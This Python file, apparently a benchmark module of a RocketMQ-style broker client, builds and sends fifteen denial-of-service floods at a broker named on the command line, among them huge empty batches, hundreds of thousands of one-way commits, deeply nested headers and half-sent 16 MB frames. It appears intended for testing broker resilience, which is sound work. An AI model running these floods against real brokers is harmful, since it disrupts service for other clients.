"""Attacks of one client that could stall the others of a broker.

Usage: `python -m benchmarks.attacks NAME HOST:PORT SECONDS`.

Every attack builds its frames first, says so with a line, and starts when its standard input ends; then it
sends for at most so many seconds. Replies are read and dropped.
"""

from __future__ import annotations

import select
import socket
import sys
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass

from rmqcli.codec.bodies.base import Body, encode_body
from rmqcli.codec.bodies.heartbeat import ConsumerData, HeartbeatData, SubscriptionData
from rmqcli.codec.bodies.offsets import LockBatchRequestBody
from rmqcli.codec.codes import RPC_ONEWAY, PullSysFlag, RequestCode
from rmqcli.codec.headers.base import to_ext
from rmqcli.codec.headers.send import SendMessageRequestHeaderV2
from rmqcli.codec.message_queue import MessageQueue
from rmqcli.codec.properties import encode_properties
from rmqcli.codec.remoting.command import RemotingCommand
from rmqcli.codec.remoting.frame import encode_frame

TOPIC = "Attacked"
CHUNK = 256 * 1024

Address = tuple[str, int]
Frames = Iterable[bytes]


def frame(code: int, ext: Mapping[str, object], body: bytes = b"", flag: int = 0) -> bytes:
    fields = {name: str(value) for name, value in ext.items()}
    return encode_frame(RemotingCommand(code, fields, body, opaque=1, flag=flag))


def json_frame(code: int, body: Body) -> bytes:
    return frame(code, {}, encode_body(body))


def send_frame(
    body: bytes = b"x", code: int = RequestCode.SEND_MESSAGE_V2, topic: str = TOPIC, **properties: str
) -> bytes:
    header = SendMessageRequestHeaderV2(
        producer_group="attack",
        topic=topic,
        default_topic="TBW102",
        default_topic_queue_nums=4,
        queue_id=0,
        sys_flag=0,
        born_timestamp=0,
        flag=0,
        properties=encode_properties(properties).decode(),
        batch=code == RequestCode.SEND_BATCH_MESSAGE,
    )
    return frame(code, to_ext(header), body)


def pull_frame(queue_id: int, *, group: str = "attack", tags: str = "*") -> bytes:
    return frame(
        RequestCode.PULL_MESSAGE,
        {
            "consumerGroup": group,
            "topic": TOPIC,
            "queueId": queue_id,
            "queueOffset": 0,
            "maxMsgNums": 32,
            "sysFlag": int(PullSysFlag.SUBSCRIPTION | PullSysFlag.SUSPEND),
            "commitOffset": 0,
            "suspendTimeoutMillis": 3000,
            "subscription": tags,
            "subVersion": 0,
            "expressionType": "TAG",
        },
    )


def topic_frame(name: str, queues: int) -> bytes:
    return frame(
        RequestCode.UPDATE_AND_CREATE_TOPIC,
        {
            "topic": name,
            "defaultTopic": "TBW102",
            "readQueueNums": queues,
            "writeQueueNums": queues,
            "perm": 6,
            "topicFilterType": "SINGLE_TAG",
            "topicSysFlag": 0,
            "order": "false",
        },
    )


def heartbeat_frame(groups: int, topics: int = 1) -> bytes:
    subscriptions = [SubscriptionData(topic=f"T{n}", sub_string="*", sub_version=1) for n in range(topics)]
    return json_frame(
        RequestCode.HEART_BEAT,
        HeartbeatData(
            client_id="attack",
            consumer_data_set=[
                ConsumerData(group_name=f"attack{n}", subscription_data_set=subscriptions)
                for n in range(groups)
            ],
        ),
    )


# --- frames of each attack


def empty_batch() -> Frames:
    item = (22).to_bytes(4, "big") + bytes(18)
    return [send_frame(item * 190_640, RequestCode.SEND_BATCH_MESSAGE)]


def long_batches() -> Frames:
    item = (22).to_bytes(4, "big") + bytes(18)
    return [send_frame(item * 32_768, RequestCode.SEND_BATCH_MESSAGE)]


def commits() -> Frames:
    code = RequestCode.UPDATE_CONSUMER_OFFSET
    return [
        frame(
            code,
            {"consumerGroup": f"attack{n}", "topic": TOPIC, "queueId": 0, "commitOffset": n},
            flag=RPC_ONEWAY,
        )
        for n in range(433_000)
    ]


def heartbeats() -> Frames:
    return [heartbeat_frame(2000)]


def large_topic() -> Frames:
    return [frame(RequestCode.GET_TOPIC_STATS_INFO, {"topic": "Large"})]


def many_keys() -> Frames:
    return [send_frame(KEYS=" ".join(str(n) for n in range(5500)))]


def polls() -> Frames:
    return [pull_frame(n % 1024, group=f"attack{n // 1024 % 16}") for n in range(16_384)]


def topic_tables() -> Frames:
    return [
        frame(RequestCode.GET_ALL_TOPIC_CONFIG, {}),
        frame(RequestCode.GET_ALL_SUBSCRIPTIONGROUP_CONFIG, {}),
    ]


def ext_fields() -> Frames:
    return [frame(0, {f"field{n}": n for n in range(count)}) for count in (65_000, 12_000)]


def deep_header() -> Frames:
    head = b'{"code":34,"extFields":' + b'{"a":' * 40_000 + b"1" + b"}" * 40_000 + b"}"
    return [(len(head) + 4).to_bytes(4, "big") + len(head).to_bytes(4, "big") + head]


def locks() -> Frames:
    queues = [MessageQueue(TOPIC, "b", n) for n in range(16_000)]
    body = LockBatchRequestBody(consumer_group="attack", client_id="attack", mq_set=queues)
    return [json_frame(RequestCode.LOCK_BATCH_MQ, body), json_frame(RequestCode.UNLOCK_BATCH_MQ, body)]


def tiny() -> Frames:
    return [frame(RequestCode.GET_MAX_OFFSET, {"topic": TOPIC, "queueId": 0}, flag=RPC_ONEWAY)] * 10_000


def filters() -> Frames:
    tags = " || ".join(f"tag{n}" for n in range(20_000))
    return [pull_frame(0, tags=f"{tags} || other{n}") for n in range(64)]


def clients() -> Frames:
    return [
        frame(RequestCode.GET_CONSUMER_CONNECTION_LIST, {"consumerGroup": "attack0"}),
        frame(RequestCode.GET_CONSUMER_LIST_BY_GROUP, {"consumerGroup": "attack0"}),
    ]


def half_frames() -> Frames:
    return [((16 << 20) - 4).to_bytes(4, "big") + bytes((16 << 20) - 1000)]


# --- how they are sent


def in_flight(count: int) -> Callable[[Address, Frames, float], None]:
    """Keep so many requests outstanding on one connection, or on another if the broker closes it."""

    def run(address: Address, frames: Frames, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            with socket.create_connection(address) as connection, suppress(OSError):
                connection.settimeout(seconds)
                waiting = b""
                for number, one in enumerate(repeated(frames, deadline)):
                    connection.sendall(one)
                    if number >= count - 1:
                        waiting = drop_reply(connection, waiting)

    return run


def poured(connections: int = 1, again: bool = True) -> Callable[[Address, Frames, float], None]:
    """Send as fast as the broker reads, on some connections in turn; close them at the end."""

    def run(address: Address, frames: Frames, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        sockets = [socket.create_connection(address) for _ in range(connections)]
        data = b"".join(frames)
        positions = dict.fromkeys(sockets, 0)
        for one in sockets:
            one.setblocking(False)
        while positions and time.monotonic() < deadline:
            readable, writable, _ = select.select(list(positions), list(positions), [], 0.1)
            for one in readable:
                try:
                    if not one.recv(CHUNK):
                        positions.pop(one, None)
                except OSError:
                    positions.pop(one, None)
            for one in writable:
                if one in positions:
                    positions[one] += try_send(one, data[positions[one] : positions[one] + CHUNK])
                    if positions[one] >= len(data) and again:
                        positions[one] = 0
            if not again and all(position >= len(data) for position in positions.values()):
                break
        time.sleep(max(0.0, min(4.0, deadline - time.monotonic())) if not again else 0)
        for one in sockets:
            one.close()

    return run


def try_send(connection: socket.socket, data: bytes) -> int:
    try:
        return connection.send(data)
    except OSError:
        return 0


def ask_all(address: Address, frames: Frames) -> None:
    with socket.create_connection(address) as connection:
        waiting = b""
        for one in frames:
            connection.sendall(one)
            waiting = drop_reply(connection, waiting)


def repeated(frames: Frames, deadline: float) -> Iterator[bytes]:
    while True:
        for one in frames:
            if time.monotonic() > deadline:
                return
            yield one


def drop_reply(connection: socket.socket, waiting: bytes) -> bytes:
    while len(waiting) < 4 or len(waiting) < 4 + int.from_bytes(waiting[:4], "big"):
        data = connection.recv(CHUNK)
        if not data:
            raise ConnectionResetError("closed by the broker")
        waiting += data
    return waiting[4 + int.from_bytes(waiting[:4], "big") :]


@dataclass(frozen=True)
class Attack:
    """`frames` to send, and how; `before` is asked first, each with its reply."""

    frames: Callable[[], Frames]
    run: Callable[[Address, Frames, float], None]
    before: Callable[[], Frames] = tuple


def attacked_topic() -> Frames:
    return [topic_frame(TOPIC, 1024)]


ATTACKS: dict[str, Attack] = {
    "a batch of 190,640 empty messages": Attack(empty_batch, in_flight(1)),
    "batches of 32,768 empty messages": Attack(long_batches, in_flight(1)),
    "433,000 one-way commits": Attack(commits, poured(again=False), attacked_topic),
    "heartbeats of 2,000 groups": Attack(heartbeats, in_flight(1)),
    "statistics of 65,536 queues": Attack(large_topic, in_flight(4), lambda: [topic_frame("Large", 65_536)]),
    "messages of 5,500 keys": Attack(many_keys, in_flight(16)),
    "long polls": Attack(polls, poured(8, again=False), attacked_topic),
    "half frames": Attack(half_frames, poured(64, again=False)),
    "tables of 4,300 topics": Attack(
        topic_tables,
        in_flight(4),
        lambda: [topic_frame(f"T{n}", 4) for n in range(300)] + [heartbeat_frame(4000)],
    ),
    "65,000 ext fields": Attack(ext_fields, in_flight(4)),
    "deep headers": Attack(deep_header, in_flight(1)),
    "locks of 16,000 queues": Attack(locks, in_flight(2)),
    "one-way requests": Attack(tiny, poured(4)),
    "filters of 20,000 tags": Attack(filters, in_flight(4), attacked_topic),
    "lists of clients with 5,000 topics": Attack(
        clients, in_flight(4), lambda: [heartbeat_frame(1, topics=5000)]
    ),
}


def main(attacks: Mapping[str, Attack]) -> None:
    """Carry out the attack that the command line names."""
    name, where, seconds = sys.argv[1:]
    attack = attacks[name]
    host, _, port = where.rpartition(":")
    frames = list(attack.frames())
    ask_all((host, int(port)), attack.before())
    print("ready", flush=True)
    sys.stdin.read()
    attack.run((host, int(port)), frames, float(seconds))


if __name__ == "__main__":
    main(ATTACKS)
